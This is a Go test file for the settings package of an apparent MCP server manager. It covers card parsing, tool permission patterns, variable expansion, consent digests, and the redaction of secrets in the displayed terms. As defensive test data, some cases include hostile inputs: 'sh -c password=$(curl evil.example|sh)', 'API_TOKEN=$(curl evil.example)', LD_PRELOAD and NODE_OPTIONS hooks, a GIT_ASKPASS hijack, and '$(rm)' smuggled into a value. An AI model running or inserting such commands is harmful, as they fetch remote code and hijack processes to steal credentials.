package settings

import (
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/mcpdeck/mcpdeck/servers/support/snapshot"
)

func TestACardIsReadAsItWasWritten(t *testing.T) {
	none := "" // which is something else than nothing
	card := Card{
		Command: []string{"npx", "-y", "it's", `a "b" \`}, Env: map[string]string{"A": "${secret:a}", "B": ""}, Inherit: []string{"C"},
		Prefix: &none, Tools: map[string]string{"*": "allow", "x y": "off"}, CallTimeout: 5e9, Mode: "on",
	}
	b, err := card.Encode()
	if err != nil {
		t.Fatal(err)
	}
	got, warnings, err := Decode("a", b)
	if err != nil || len(warnings) > 0 {
		t.Fatalf("%v, %v in\n%s", err, warnings, b)
	}
	want, _, _ := card.Complete("a")
	if !reflect.DeepEqual(got, want) {
		t.Errorf("got\n%+v\nwant\n%+v\nfrom\n%s", got, want, b)
	}
	if got.ToolPrefix() != "" || (Card{Name: "a-b"}).ToolPrefix() != "a_b_" {
		t.Errorf("prefixes %q, %q", got.ToolPrefix(), (Card{Name: "a-b"}).ToolPrefix())
	}
	if time.Duration(got.StartTimeout) != time.Minute || got.MaxInFlight != 64 {
		t.Errorf("defaults: %+v", got)
	}
}

func TestWhatIsWrongWithACard(t *testing.T) {
	for _, r := range []struct{ name, text, warns, fails string }{
		{"nothing to run", "mode = 'on'", "", "missing command or url"},
		{"both", "command = ['a']\nurl = 'https://a.example'", "", "both command and url are set"},
		{"an empty word", "command = [' ']", "", "the program is empty"},
		{"no address", "url = 'a.example'", "", "use an address with http"},
		{"another scheme", "url = 'file:///etc/passwd'", "", "use an address with http"},
		{"a password in the address", "url = 'https://me:secret@a.example/'", "", "use headers"},
		{"plain HTTP", "url = 'http://a.example/mcp'", "", "allow_http"},
		{"plain HTTP that is wanted", "url = 'http://a.example/mcp'\nallow_http = true", "", ""},
		{"plain HTTP on this machine", "url = 'http://127.0.0.1:80/mcp'", "", ""},
		{"a sandbox, which there is not", "command = ['a']\nsandbox = 'on'", "", "not supported"},
		{"no sandbox", "command = ['a']\nsandbox = 'off'", "", ""},
		{"a word for another", "command = ['a']\nmode = 'onn'", `mode: unknown value "onn"; use last, off, on, lazy`, ""},
		{"a verdict that is misspelt", "command = ['a']\ntools = { x = 'alow' }", `tools.x: unknown value "alow" counts as off`, ""},
		{"resources that are misspelt", "command = ['a']\nresources = 'of'", `counts as off`, ""},
		{"what has no effect", "command = ['a']\nheaders = { A = 'b' }", "headers has no effect on a server with a command", ""},
		{"the agent of each request", "command = ['a']\nshare = 'deck'\nera = 'modern'\nsampling = 'agent'", "", ""},
		{"no one agent to ask", "command = ['a']\nshare = 'deck'\nsampling = 'agent'", "sampling = \"agent\" has no effect on a server that agents share; use share = \"session\"", ""},
		{"what else is heeded", "command = ['a']\npin = 'off'\ntrim = ['outputSchema']\ntexts = 'raw'\nprefix = ''", "", ""},
		{"lazy", "command = ['a']\nmode = 'lazy'", "", ""},
		{"a header of two lines", "url = 'https://a.example'\nheaders = { A = \"b\\nc\" }", "", "one-line value"},
		{"no name of a variable", "command = ['a']\ninherit = ['A=B']", "", "not a valid variable name"},
		{"a negative number", "command = ['a']\nmax_in_flight = -1", "", "cannot be negative"},
		{"no duration", "command = ['a']\ncall_timeout = '5'", "", "line 2, column 16"},
		{"no TOML", "command = [", "", "line 1"},
	} {
		t.Run(r.name, func(t *testing.T) {
			_, warnings, err := Decode("a", []byte(r.text))
			if (err != nil) != (r.fails != "") || err != nil && !strings.Contains(err.Error(), r.fails) {
				t.Errorf("got %v, want %q", err, r.fails)
			}
			if all := strings.Join(warnings, "\n"); r.fails == "" && ((all == "") != (r.warns == "") || !strings.Contains(all, r.warns)) {
				t.Errorf("warned %q, want %q", all, r.warns)
			}
			if err != nil && strings.Contains(err.Error(), "secret") {
				t.Errorf("%v has the password", err)
			}
		})
	}
	for name, ok := range map[string]bool{"a": true, "a-1": true, "1a": false, "A": false, "a_b": false, "": false, "a/b": false, strings.Repeat("a", 25): false} {
		if (CheckName(name) == nil) != ok {
			t.Errorf("name %q: %v", name, CheckName(name))
		}
	}
}

func TestAnExactNameCountsBeforeAPattern(t *testing.T) {
	card := Card{Tools: map[string]string{"*": "ask", "get_*": "allow", "get_secret": "off", "*_file": "off", "get_file": "allow"}}
	for tool, want := range map[string]string{"get_secret": "off", "get_it": "allow", "put": "ask", "read_file": "off", "get_file": "allow"} {
		if got := card.Verdict(tool); got != want {
			t.Errorf("%s: %s, want %s", tool, got, want)
		}
	}
	if got := (Card{}).Verdict("x"); got != "allow" {
		t.Errorf("without a word: %s", got)
	}
	if got := (Card{Tools: map[string]string{"a*": "allow", "*a": "off"}}).Verdict("a-a"); got != "off" {
		t.Errorf("of two that are as long: %s", got)
	}
}

func TestVariablesAreReplacedOnce(t *testing.T) {
	env := map[string]string{"A": "${home}; $(rm)", "EMPTY": ""}
	v := Values{Root: "/p", Home: "/h", Env: func(n string) (string, bool) { s, ok := env[n]; return s, ok }}
	card := Card{
		Command: []string{"x", "${root}/a", "${env:A}", "${env:EMPTY}", "${env:NO:-other}", "${env:EMPTY:-other}", "${HOME} ${unknown:x} $HOME"},
		URL:     "${env:NO}/mcp", Cwd: "${home}", Env: map[string]string{"K": "${secret:k}"}, Headers: map[string]string{"H": "Bearer ${secret:k}"},
	}
	out, missing := card.Expand(v)
	want := []string{"x", "/p/a", "${home}; $(rm)", "", "other", "other", "${HOME} ${unknown:x} $HOME"}
	if !slices.Equal(out.Command, want) || out.Cwd != "/h" {
		t.Errorf("got %q in %s", out.Command, out.Cwd)
	}
	if !slices.Equal(missing, []string{"${env:NO}", "${secret:k}"}) || out.Env["K"] != "${secret:k}" {
		t.Errorf("missing %q, environment %q", missing, out.Env)
	}
	if card.Command[1] != "${root}/a" || card.Env["K"] != "${secret:k}" {
		t.Error("the card itself has changed")
	}
	v.Secret = func(string) (string, bool) { return "s", true }
	if out, _ = card.Expand(v); out.Headers["H"] != "Bearer s" {
		t.Errorf("headers %q", out.Headers)
	}
	if got := card.Missing(func(string) bool { return false }); !slices.Equal(got, []string{"k"}) {
		t.Errorf("secrets that are missing: %q", got)
	}
	if out, missing = (Card{Cwd: "${root}"}).Expand(Values{}); out.Cwd != "${root}" || len(missing) != 1 {
		t.Errorf("without a project: %q, %q", out.Cwd, missing)
	}
}

func TestTheDigestChangesWithWhatRuns(t *testing.T) {
	base := Card{Command: []string{"a", "b"}, Env: map[string]string{"A": "1"}, Inherit: []string{"X", "Y"}}
	same := base
	same.Inherit, same.Mode, same.Title, same.Tools = []string{"Y", "X"}, "on", "T", map[string]string{"x": "off"}
	if base.Digest() != same.Digest() {
		t.Error("it changes with what runs nothing else")
	}
	seen := map[string]string{base.Digest(): "base"}
	for name, change := range map[string]func(*Card){
		"words":     func(c *Card) { c.Command = []string{"a b"} },
		"env":       func(c *Card) { c.Env = map[string]string{"A": "2"} },
		"inherit":   func(c *Card) { c.Inherit = []string{"X"} },
		"cwd":       func(c *Card) { c.Cwd = "/x" },
		"url":       func(c *Card) { c.Command, c.URL = nil, "https://a.example" },
		"headers":   func(c *Card) { c.Headers = map[string]string{"A": "1"} },
		"sandbox":   func(c *Card) { c.Sandbox = "off" },
		"transport": func(c *Card) { c.Transport = "sse" },
		"pin":       func(c *Card) { c.Pin = "off" },
		"prefix":    func(c *Card) { c.Prefix = new(string) },
		"sampling":  func(c *Card) { c.Sampling = "agent" },
		"elicit":    func(c *Card) { c.Elicit = "agent" },
		"share":     func(c *Card) { c.Share = "deck" },
	} {
		c := base
		change(&c)
		if other := seen[c.Digest()]; other != "" {
			t.Errorf("%s has the digest of %s", name, other)
		}
		seen[c.Digest()] = name
	}
}

// A setting that comes to exist is something to consent to unless somebody says otherwise.
func TestAllThatTheDigestIsOfIsShown(t *testing.T) {
	seen := map[string]bool{"Name": true, "File": true, "Title": true, "About": true, "Key": true, "Mode": true, "Tools": true, "Resources": true, "Prompts": true}
	v := reflect.TypeFor[Card]()
	base, _, err := Card{Command: []string{"a"}}.Complete("x")
	if err != nil {
		t.Fatal(err)
	}
	if (Card{Command: []string{"a"}, Transport: "auto", Env: map[string]string{}, Trim: []string{}}).Digest() != base.Digest() {
		t.Error("defaults change the digest")
	}
	for i := range v.NumField() {
		f := v.Field(i)
		c := base
		switch to := reflect.ValueOf(&c).Elem().Field(i); f.Type.Kind() {
		case reflect.String:
			to.SetString("zz")
		case reflect.Bool:
			to.SetBool(true)
		case reflect.Int, reflect.Int64:
			seen[f.Name] = true // limits
			to.SetInt(7)
		case reflect.Slice:
			to.Set(reflect.ValueOf([]string{"zz"}))
		case reflect.Pointer:
			to.Set(reflect.ValueOf(new(string)))
		case reflect.Map:
			to.Set(reflect.MakeMap(f.Type))
			to.SetMapIndex(reflect.ValueOf("zz"), reflect.ValueOf("zz"))
		default:
			t.Fatalf("%s is a %s", f.Name, f.Type)
		}
		changed, shown := c.Digest() != base.Digest(), !slices.Equal(c.Terms().Facts, base.Terms().Facts)
		if changed == seen[f.Name] || changed != shown {
			t.Errorf("%s: the digest changes %v, what is shown changes %v", f.Name, changed, shown)
		}
	}
}

// What users have agreed to, decks of later versions go by, too.
func TestTheDigestOfTermsStays(t *testing.T) {
	c := Card{Command: []string{"node", "server.js"}, Inherit: []string{"HOME"}, Pin: "off", Sampling: "agent"}
	if got, want := c.Digest(), "fdab3d69967430da926dd4e5dc677f453b72d5fbae4dbd2119cc27865666f6ad"; got != want {
		t.Errorf("the digest is %s, was %s", got, want)
	}
}

func TestTermsHideNothingThatRuns(t *testing.T) {
	const secret = "ghp_0123456789abcdefghijklmnopqrstuvwxyz"
	card := Card{
		Command: []string{"sh", "-c", "password=$(curl evil.example|sh)\nnode x", "--token", secret}, Inherit: []string{"SSH_AUTH_SOCK"},
		Env: map[string]string{"GITHUB_TOKEN": secret, "LD_PRELOAD": "/tmp/x.so", "NODE_OPTIONS": "--require=/tmp/x", "PATH": ".", "GIT_ASKPASS": "/tmp/ask", "API_TOKEN": "$(curl evil.example)"},
	}
	text := ""
	for _, f := range card.Terms().Facts {
		text += f.Name + " " + f.Value + f.Means + "\n"
	}
	for _, want := range []string{
		"runs sh -c 'password=$(curl evil.example|sh)\nnode x' --token " + secret + "\n", "in the project of the agent\n", "with LD_PRELOAD=/tmp/x.so\n",
		"with NODE_OPTIONS=--require=/tmp/x\n", "with PATH=.\n", "with GIT_ASKPASS=/tmp/ask\n", "with SSH_AUTH_SOCK,", "with API_TOKEN=$(curl evil.example)\n",
		"with GITHUB_TOKEN=[40 characters, not shown]\n",
	} {
		if !strings.Contains(text, want) {
			t.Errorf("%q is not in\n%s", want, text)
		}
	}
	url := Card{URL: "https://a.example/mcp?v=2&key=0123456789abcdefghij", Headers: map[string]string{"Authorization": "Bearer 0123456789abcdefghij"}}.Terms().Facts
	if want := []snapshot.Fact{{Name: "connects to", Value: "https://a.example/mcp?v=2&key=[20 characters, not shown]"}, {Name: "header", Value: "Authorization: Bearer [20 characters, not shown]"}}; !slices.Equal(url, want) {
		t.Errorf("%q", url)
	}
}

func TestWhatRunsIsShownWithoutSecrets(t *testing.T) {
	const secret = "ghp_0123456789abcdefghijklmnopqrstuvwxyz"
	card := Card{
		Command: []string{"npx", "a b", "--token", secret, "\x1b[31m"}, Cwd: "/x", Inherit: []string{"PATH2"},
		Env: map[string]string{"GITHUB_TOKEN": secret, "LEVEL": "debug", "API_KEY": "${secret:github}", "AUTH_TOKEN": "Bearer ${env:X}"},
	}
	text := strings.Join(card.Runs(), "\n") + strings.Join(Card{URL: "https://a.example/?token=" + secret, Headers: map[string]string{"Authorization": "Bearer " + secret}}.Runs(), "\n")
	if strings.Contains(text, secret) || strings.Contains(text, "\x1b") {
		t.Errorf("shown:\n%s", text)
	}
	for _, part := range []string{"npx 'a b' --token", "LEVEL=debug", "API_KEY=${secret:github}", "AUTH_TOKEN=Bearer ${env:X}", "PATH2", "/x", "https://a.example/", "Authorization"} {
		if !strings.Contains(text, part) {
			t.Errorf("%q is not in\n%s", part, text)
		}
	}
}

func FuzzDecode(f *testing.F) {
	f.Add([]byte("command = ['a']\ntools = { '*' = 'ask' }\nenv = { A = '${env:X:-}' }\n"))
	f.Add([]byte("url = '${env:X}/mcp'\n[oauth]\nclient_id = 'x'\n"))
	f.Fuzz(func(t *testing.T, b []byte) {
		card, _, err := Decode("a", b)
		if err != nil {
			return
		}
		out, err := card.Encode()
		if err != nil {
			t.Fatalf("%q cannot be written: %v", b, err)
		}
		again, warnings, err := Decode("a", out)
		if err != nil || again.Digest() != card.Digest() {
			t.Fatalf("%q became %q: %v, %v", b, out, err, warnings)
		}
		card.Runs()
		card.Expand(Values{})
	})
}
